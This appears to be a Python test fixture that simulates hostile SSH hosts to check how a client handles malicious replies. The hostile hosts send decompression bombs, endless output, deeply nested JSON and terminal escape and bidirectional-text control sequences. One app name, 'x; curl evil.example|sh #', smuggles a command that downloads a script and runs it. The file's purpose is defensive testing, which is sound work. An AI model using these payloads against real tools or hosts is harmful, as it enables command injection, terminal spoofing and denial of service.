"""Hosts that send what no honest host sends: the commands of their logins."""

from __future__ import annotations

import base64
import gzip
import io
import json
import tarfile
from pathlib import Path
from typing import Any

from tests.cli.sshd import Sshd, packed
from tests.recorded import raw

# A terminal's title, colours, the cursor; C1; a text that reads backwards; an invisible space.
CONTROL = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202egnp.exe\u200b\x00\x7f"
# A shell runs the second half; chats tell everybody.
NAME = "x; curl evil.example|sh #"


def printed(text: str) -> dict[str, Any]:
    return {"rc": 0, "out": text, "err": ""}


def reply(folder: Path, name: str, probes: dict[str, Any]) -> str:
    """The command of a host that sends a recorded reading with other probes in it."""
    file = folder / f"{name}.reply"
    file.write_text(packed({**raw({"host": "debian13"}), **probes}))
    return f"cat >/dev/null; cat {file}"


def apps(*values: dict[str, Any]) -> dict[str, Any]:
    """The probes of a host with these apps."""
    out = json.dumps({"apps": list(values), "runners": [], "booted": 1})
    return {"apps": printed(out), "app_units": printed("")}


def app(name: str, **more: Any) -> dict[str, Any]:
    return {"name": name, "releases": [], "backups": [], "current": None, **more}


def bomb(folder: Path, size: int) -> str:
    """The command of a host whose small reply unpacks to this size."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
        member = tarfile.TarInfo("./identity.out")
        member.size = size
        archive.addfile(member, _Zeros(size))
    file = folder / "bomb.reply"
    file.write_bytes(base64.encodebytes(buffer.getvalue()))
    return f"cat >/dev/null; cat {file}"


class _Zeros(io.RawIOBase):
    def __init__(self, size: int) -> None:
        self.left = size

    def read(self, size: int = -1) -> bytes:
        given = min(self.left, size)
        self.left -= given
        return bytes(given)


def deep(levels: int) -> dict[str, Any]:
    return {"apps": printed("[" * levels + "]" * levels)}


def cut_reply(folder: Path) -> str:
    file = folder / "cut.reply"
    file.write_bytes(base64.encodebytes(gzip.compress(b"x" * 10000)[:-20]))
    return f"cat >/dev/null; cat {file}"


def attacks(folder: Path, sshd: Sshd) -> dict[str, dict[str, Any]]:
    """By name, the login of each hostile host."""
    result = {"id": CONTROL, "state": "verified", "started": 1e300, "ended": -1, "gap_s": 1}
    commands = {
        "bomb": bomb(folder, 1 << 30),
        "one endless line": "exec cat /dev/zero",
        "one long line": "cat >/dev/null; exec head -c 20000000 /dev/zero",
        "endless lines": "exec yes",
        "empty lines": "exec yes ''",
        "endless errors": "exec yes >&2",
        "cut": cut_reply(folder),
        "lines": reply(folder, "lines", {"files": printed("\n" * 6_000_000)}),
        "apps": reply(folder, "apps", apps(*(app(f"app{n}") for n in range(30000)))),
        "app name": reply(folder, "name", apps(app(NAME))),
        "markup": reply(folder, "markup", apps(app("<!channel> @all"))),
        "long name": reply(folder, "long", apps(app("a" * 5000))),
        "deep": reply(folder, "deep", deep(100_000)),
        "NaN": reply(folder, "nan", {"apps": printed('{"apps": NaN}')}),
        "1e400": reply(folder, "inf", {"apps": printed('{"booted": 1e400}')}),
        "digits": reply(folder, "digits", {"apps": printed("9" * 100_000)}),
        "control": reply(
            folder,
            "control",
            {
                **apps(app("tts", releases=[{"id": CONTROL, "by": CONTROL, "result": result}])),
                "identity": {"rc": 0, "out": f"{CONTROL}\n", "err": CONTROL},
                "failed_units": printed(f"{CONTROL}.service loaded failed failed x\n"),
            },
        ),
    }
    return {name: sshd.login(command) for name, command in commands.items()}
